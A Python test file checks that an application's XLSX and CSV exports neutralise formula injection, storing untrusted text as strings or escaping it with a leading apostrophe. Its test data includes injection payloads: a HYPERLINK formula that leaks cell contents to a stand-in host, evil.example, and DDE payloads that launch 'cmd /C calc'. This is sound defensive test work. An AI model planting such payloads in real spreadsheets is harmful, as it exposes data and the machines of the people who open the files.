"""Spreadsheets written by the workstation never turn outside text into a formula: every XLSX
text cell is a string cell with the text as written, every CSV cell that a spreadsheet would
read as a formula is escaped (OWASP: a leading «'»)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from cur_desktop.reports.scorecard_csv import scorecard_csv
from cur_desktop.reports.spreadsheet import csv_cell
from cur_desktop.ui.analytics_tables import write_xlsx

from .test_scorecard import _card, _row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+7 (4912) 55-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_analytics_xlsx_keeps_citizens_text_as_text(tmp_path):
    out = tmp_path / "analytics.xlsx"
    rows = [[text, 3, 0.5] for text in HOSTILE]
    write_xlsx(out, [("Группы похожих", ["=Ключ", "Обращений", "Доля"], rows)])
    ws = load_workbook(out)["Группы похожих"]
    assert ws.cell(1, 1).data_type == "s" and ws.cell(1, 1).value == "=Ключ"
    for r, text in enumerate(HOSTILE, start=2):
        cell = ws.cell(r, 1)
        assert cell.data_type == "s", text
        assert cell.value == text
        assert ws.cell(r, 2).value == 3 and ws.cell(r, 2).data_type == "n"
        assert ws.cell(r, 3).value == 0.5


def test_scorecard_csv_escapes_a_trainees_name_and_a_trainers_comment():
    card = _card(
        _row(1, '=HYPERLINK("http://evil.example";"ok")', comment="@SUM(1+1)"),
        _row(2, "+Петров", comment="-1+cmd|' /C calc'!A0"),
        _row(3, "\tТабуляция", comment="\rВозврат"),
    )
    table = list(csv.reader(io.StringIO(scorecard_csv(card).decode("utf-8-sig")), delimiter=";"))
    names = [row[0] for row in table[1:]]
    comments = [row[-1] for row in table[1:]]
    assert names == ['\'=HYPERLINK("http://evil.example";"ok")', "'+Петров", "'\tТабуляция"]
    assert comments == ["'@SUM(1+1)", "'-1+cmd|' /C calc'!A0", "'\rВозврат"]
    assert table[1][2] == "7"  # numbers are left alone


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+x", "'+x"),
        ("+1", "+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("обычный текст", "обычный текст"),
        ("a=1", "a=1"),
        ("", ""),
        (-3, "-3"),
        ("-12,5", "-12,5"),
        (None, ""),
    ],
)
def test_csv_cell(value, written):
    assert csv_cell(value) == written
